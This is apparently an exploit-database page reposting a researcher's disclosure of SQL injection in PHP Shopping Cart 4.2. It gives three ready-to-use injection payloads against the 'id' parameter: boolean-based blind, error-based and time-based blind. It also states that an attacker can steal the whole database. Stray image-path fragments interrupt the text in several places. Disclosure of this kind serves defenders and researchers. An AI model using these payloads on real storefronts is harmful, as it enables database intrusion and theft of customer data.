Edit Report

Our sensors found this exploit at:

Below is a copy:

PHP Shopping Cart-4.2 Multiple-SQLi
## Title: PHP Shopping Cart-4.2 Multiple-SQLi
## Author: nu11secur1ty
## Date: 09/13/2023
## Vendor:
## Software:
## Reference:

## Description:
The `id` parameter appears to be vulnerable to SQL injection attacks. A single quote was submitted in the id parameter, and a database error message was returned. Two single quotes were thensubmitted and the error message disappeared. The attacker easily can steal all information from the database of this web application!
WARNING! All of you: Be careful what you buy! This will be your responsibility!


Parameter:id (GET)
    Type: boolean-based blind
    Title: OR boolean-based blind - WHERE or HAVING clause (NOT)
    Payload: controller=pjFront&action=pjActionGetStocks&id=1') OR NOT 3795=3795-- sRcp&session_id=

    Type: error-based
    Title: MySQL >= 5.6 AND error-based - WHERE, HAVING, ORDER BY or GROUP BY clause (GTID_SUBSET)
    Payload: controller=pjFront&action=pjActionGetStocks&id=1') AND GTID_SUBSET(CONCAT(0x71717a6b71,(SELECT (ELT(3820=3820,1))),0x7178627871),3820)-- kQZA&session_id=

    Type: time-based blind
    Title: MySQL >= 5.0.12 AND time-based blind (query SLEEP)
    Payload: controller=pjFront&action=pjActionGetStocks&id=1')AND (SELECT 2625 FROM (SELECT(SLEEP(5)))nVyA)-- FGLs&session_id=


## Reproduce:

## Proof and Exploit:

## Time spent:

System Administrator - Infrastructure Engineer
Penetration Testing Engineer
Exploit developer at and
0day Exploit DataBase
homepage:
                          nu11secur1ty<>

Copyright ©2023 Exploitalert.

All trademarks used are properties of their respective owners. By visiting thiswebsite you agree to Terms of Use.